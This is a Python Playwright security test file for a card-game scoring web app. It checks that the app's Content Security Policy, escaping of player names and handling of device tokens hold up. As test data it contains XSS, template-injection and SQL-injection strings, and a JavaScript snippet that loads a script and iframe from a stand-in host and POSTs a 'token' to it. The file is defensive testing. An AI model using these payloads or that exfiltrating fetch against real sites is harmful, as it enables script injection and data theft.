"""Strangers, foreign scripts and odd names cannot harm the page."""

import re
from typing import Final

from playwright.async_api import Browser, Request

from tests.page.conftest import Holding
from tests.support import servers
from tests.support.browsers import WIDE, Phone, holding
from tests.support.evenings import HAND, on_the_wall, open_match, open_table, wall_shows

HOSTILE: Final = "<img src=x onerror=document.title=666>"
_ID: Final = re.compile(r"[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}")
# What somebody would write into the page who found a way to: none of it may come to anything.
_INTRUDE: Final = """() => new Promise(tell => {
    const stopped = [];
    addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
        stopped.push(effectiveDirective);
        if (stopped.length === 4) tell(stopped.sort());
    });
    const add = (name, has) =>
        document.body.append(Object.assign(document.createElement(name), has));
    add('script', { textContent: 'document.title = 666' });
    add('script', { src: 'https://elsewhere.example/script.js' });
    add('iframe', { src: 'https://elsewhere.example/' });
    fetch('https://elsewhere.example/', { method: 'POST', body: 'token' }).catch(() => undefined);
})"""
_KEPT_OPENLY: Final = """() => JSON.stringify([
    { ...localStorage }, { ...sessionStorage }, document.cookie, location.href,
])"""


async def test_nothing_that_is_written_into_the_page_runs_or_calls_home(ann: Phone) -> None:
    await ann.visit()
    answers: list[str] = []
    ann.page.context.on("response", lambda answer: answers.append(answer.url))
    stopped = await ann.page.evaluate(_INTRUDE)
    assert stopped == ["connect-src", "frame-src", "script-src-elem", "script-src-elem"]
    assert await ann.page.title() != "666"
    assert not [url for url in answers if "elsewhere" in url]
    # Chromium wrote down each of them.
    assert len(ann.complaints) >= len(stopped)
    ann.complaints.clear()


async def test_the_page_may_share_and_copy_and_stay_lit_and_nothing_else(ann: Phone) -> None:
    await ann.visit()
    allowed = set(await ann.page.evaluate("document.featurePolicy.allowedFeatures()"))
    assert {"clipboard-write", "screen-wake-lock"} <= allowed
    assert not {"camera", "geolocation", "microphone", "payment", "usb"} & allowed


async def test_names_are_text_whatever_they_are(ann: Phone, another: Holding) -> None:
    table = await open_table(ann, (HOSTILE, "Ray</script>", "{{7*7}}", "'; DROP TABLE"))
    async with another(size=WIDE) as screen:
        await on_the_wall(ann, screen)
        await screen.reads(f"{HOSTILE} & {{{{7*7}}}}")
        for place in ("", f"#{table}", f"#{table}/hands", f"#{table}/journal", f"#{table}/phones"):
            await ann.visit(place)
            await ann.page.locator("main").wait_for()
        await ann.reads(HOSTILE)
        for phone in (ann, screen):
            assert await phone.page.locator("img[src=x]").count() == 0
            assert await phone.page.title() != "666"


async def test_who_a_phone_is_stays_where_no_other_page_reads(
    ann: Phone, browser: Browser, address: str
) -> None:
    asked: list[str] = []
    ann.page.context.on("request", lambda request: asked.append(request.url))
    await open_table(ann)
    token = (await ann.store("device"))["token"]
    assert token not in await ann.page.evaluate(_KEPT_OPENLY)
    assert await ann.page.context.cookies() == []
    assert not [url for url in asked if token in url]
    # The same phone under another name of the server: for browsers that is somebody else's page.
    kept = await ann.page.context.storage_state(indexed_db=True)
    elsewhere = address.replace("127.0.0.1", "localhost")
    async with holding(browser, elsewhere, storage=kept) as other:
        await other.visit()
        await other.named("New table").wait_for()
        assert await other.store("device") is None


async def test_a_link_for_everybody_shows_the_score_and_nothing_else(
    ann: Phone, another: Holding, address: str
) -> None:
    await open_match(ann, hands=[HAND])
    requests: list[Request] = []
    async with another(size=WIDE) as screen:
        # Playwright leaves a mark on whatever listens, for which a list's own method has no room.
        screen.page.context.on("request", lambda each: requests.append(each))  # noqa: PLW0108
        secret = (await on_the_wall(ann, screen)).rpartition("/")[2]
        await wall_shows(screen, "3", "1")
        boards = [each for each in requests if f"/v1/public/{secret}" in each.url]
        assert boards
        for each in requests:
            assert secret not in (await each.all_headers()).get("referer", "")
        answers = [await each.response() for each in boards]
        said = "".join([await each.text() for each in answers if each and each.status == 200])
        assert "Ann & Tom" in said
        assert not _ID.search(said)
        assert await screen.store("device") is None
        await screen.visit()
        await screen.reads("Open a table, or join one")
    assert secret not in "".join(servers.said_at(address))
